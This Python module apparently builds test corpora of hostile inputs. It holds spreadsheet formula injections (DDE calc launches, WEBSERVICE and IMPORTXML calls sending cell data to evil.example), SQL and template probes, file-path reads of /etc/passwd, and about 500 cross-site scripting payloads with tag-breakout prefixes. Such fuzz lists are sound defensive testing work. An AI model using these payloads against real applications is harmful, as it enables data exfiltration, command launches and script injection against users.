"""500 strings that want to be more than text: formulas, hidden marks, markup, paths, commands."""

from __future__ import annotations

from itertools import product

_STARTERS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁼", "₊", "−")
_BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\0",
    "\u200b",
    "\ufeff",
    "\u202e",
    "\xa0",
    "\u3000",
    '"',
    "'",
    ";",
    ",",
    "x;",
    'x,"',
    "x\t",
    "a|",
)
_COMMANDS = (
    "1+1",
    "cmd|'/c calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"看这里")',
    'WEBSERVICE("http://evil.example/"&A1)',
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "SUM(A1:A9)*cmd|' /C notepad'!'A1'",
)
_OTHERS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}",
    "${7*7}",
    "#read(\"/etc/passwd\")",
    "#import \"@preview/x:0.1.0\"",
    "#eval(\"1+1\")",
    "$ sum $ *bold* _it_ `raw` <label> @ref",
    "\\u{41} \\ // comment /* open",
    "http://evil.example/",
    "file:///etc/passwd",
    "mailto:x@evil.example",
    "\x1b[31mred",
    "%s%n%x",
    "'; DROP TABLE visits; --",
    "]]><!--",
    "_x0041_ _x000D_",
    "\ud7ff\ue000私有\ufffe\uffff",
    "A" * 5000,
    "玥璟珺龘𠮷",
    "line\nbreak\r\nbreak\u2028break",
    "\u202egpj.exe",
    "\u2066isolated\u2069",
    "e\u0301\u0302\u0303" * 50,
    "0x41", "1e309", "TRUE", "NULL", "#REF!", "#NAME?",
)  # fmt: skip


def corpus() -> list[str]:
    """Return the strings, all different."""
    made = [f"{before}{start}{command}" for before, start, command in product(_BEFORE, _STARTERS, _COMMANDS[:4])]
    made = made[::2] + [f"{start}{command}" for start, command in product(_STARTERS, _COMMANDS)]
    return list(dict.fromkeys([*_OTHERS, *made]))[:500]


_OUT_OF = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</script>",
    "</textarea>",
    "-->",
    "]]>",
    "`",
    "\\",
    "&quot;>",
    " x=",
    "}}",
    "</option></select>",
)
_PAYLOADS = (
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>x</details>",
    "<input autofocus onfocus=hit()>",
    "<video><source onerror=hit()></video>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<a href=javascript:hit()>x</a>",
    "<form action=javascript:hit()><button>x</button></form>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<object data=//evil.example/></object>",
    "<math><mi//xlink:href=data:,hit()>",
    "<template><script>hit()</script></template>",
    "<style>*{background:url(//evil.example/)}</style>",
    " onmouseover=hit() x=",
    " style=animation-name:x onanimationstart=hit() ",
    "javascript:hit()//",
    "data:text/html,<script>hit()</script>",
    "{{constructor.constructor('hit()')()}}",
    "${hit()}",
    "{% print(hit()) %}",
    "\u2028hit()//",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "%3Cscript%3Ehit()%3C/script%3E",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "＜script＞hit()＜/script＞",
    "<x onclick=hit()>",
)  # fmt: skip


def markup() -> list[str]:
    """Return 500 strings that want to be a page's own: every way out of where they stand, with every act."""
    made = [f"{out}{payload}" for payload in _PAYLOADS for out in _OUT_OF]
    return list(dict.fromkeys(made))[:500]
